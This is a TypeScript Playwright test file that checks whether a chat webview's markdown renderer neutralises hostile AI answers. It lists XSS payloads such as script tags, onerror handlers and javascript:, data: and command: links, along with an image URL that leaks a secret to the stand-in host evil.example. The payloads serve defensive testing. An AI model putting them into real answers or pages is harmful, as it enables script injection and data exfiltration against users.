import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type ChatPage, answerOf, bundle, launch, openChatPage, threadOf } from './chatPage.ts';

const browser = await launch();
const bundled = browser ? await bundle() : undefined;

describe.skipIf(!browser)('answers that try to do harm', () => {
  let chat: ChatPage;
  const opened = async (started: Browser | undefined) => {
    if (!started || !bundled) throw new Error('no browser');
    return openChatPage(started, bundled);
  };
  beforeAll(async () => {
    chat = await opened(browser);
  });
  afterAll(async () => {
    await chat.close();
    await browser?.close();
  });

  const ATTEMPTS: Readonly<Record<string, string>> = {
    'a script': '<script>window.harmed = 1</script>',
    'an event handler': '<img src=x onerror="window.harmed = 1"><svg onload="window.harmed = 1">',
    'a javascript: link':
      '[click](javascript:window.harmed=1) [again](JaVaScRiPt:window.harmed=1) <javascript:window.harmed=1>',
    'a data: link': '[click](data:text/html,<script>window.harmed=1</script>)',
    'a command: link': '[click](command:workbench.action.terminal.new) <command:x.y>',
    'a remote image': '![x](https://evil.example/?q=secret) ![y][ref]\n\n[ref]: https://evil.example/b.png',
    'a frame, a form and a base':
      '<iframe src="https://evil.example"></iframe><form action="https://evil.example"><base href="https://evil.example">',
    'inline styles': '<p style="position:fixed;inset:0">x</p><style>*{display:none}</style>',
    'a quote in the language of a fence': '```"><img/src=x/onerror=window.harmed=1>\ncode\n```',
    'a quote in a title': '[x](https://a.example "\\"><img src=x onerror=window.harmed=1>")',
    'HTML in a code block': '```html\n<img src=x onerror="window.harmed = 1">\n```',
    'a broken code block': '```html\n<img src=x onerror="window.harmed = 1">',
  };

  it.each(Object.entries(ATTEMPTS))('%s does nothing', async (_, text) => {
    await chat.tell(threadOf(answerOf(text)));
    for (const link of await chat.page.locator('.markdown a').all()) await link.click();
    const told = await chat.told();
    for (const message of told) expect(message.type === 'link' && message.href.startsWith('https:')).toBe(true);
    expect(await chat.page.evaluate('window.harmed')).toBeUndefined();
    expect(
      await chat.page.locator('.markdown :is(script, img, iframe, form, base, style, [style], [onerror])').count(),
    ).toBe(0);
    expect(chat.page.url()).toBe('https://chat.test/');
    expect(chat.wrong).toEqual([]);
  });

  it('shows what it does not render', async () => {
    await chat.tell(threadOf(answerOf('Use `<b>` or <b>this</b> & that')));
    expect(await chat.page.locator('.markdown').innerText()).toContain('<b>this</b> & that');
  });

  it('opens web links through the editor only, and shows where they lead', async () => {
    await chat.tell(threadOf(answerOf('[harmless words](https://evil.example/path)')));
    const link = chat.page.getByRole('link', { name: 'harmless words' });
    expect(await link.getAttribute('title')).toBe('https://evil.example/path');
    await link.click();
    await link.click({ button: 'middle' });
    expect(await chat.told()).toEqual([
      { type: 'link', href: 'https://evil.example/path' },
      { type: 'link', href: 'https://evil.example/path' },
    ]);
  });

  it('ignores messages that are not of the protocol', async () => {
    await chat.page.evaluate(`window.postMessage({ type: 'thread', threadId: 7, messages: '<b>' }, '*')`);
    await chat.page.evaluate(`window.postMessage('nonsense', '*')`);
    await chat.tell(threadOf(answerOf('still here')));
    expect(await chat.page.locator('.markdown').innerText()).toBe('still here');
    expect(chat.wrong).toEqual([]);
  });
});
